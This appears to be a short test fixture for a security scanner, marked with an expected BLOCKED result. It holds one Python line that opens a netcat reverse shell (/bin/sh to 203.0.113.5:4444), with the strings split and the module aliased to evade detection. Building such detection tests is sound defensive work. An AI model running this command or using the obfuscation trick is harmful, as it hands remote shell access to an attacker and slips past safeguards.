# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/netcat_exec.py technique: alias+concat
import subprocess as _m0
_m0.run(['n' + 'c', '-' + 'e', '/b' + 'in' + '/s' + 'h', '203' + '.0.' + '113' + '.5', '4' + '4' + '4' + '4'], check=False)
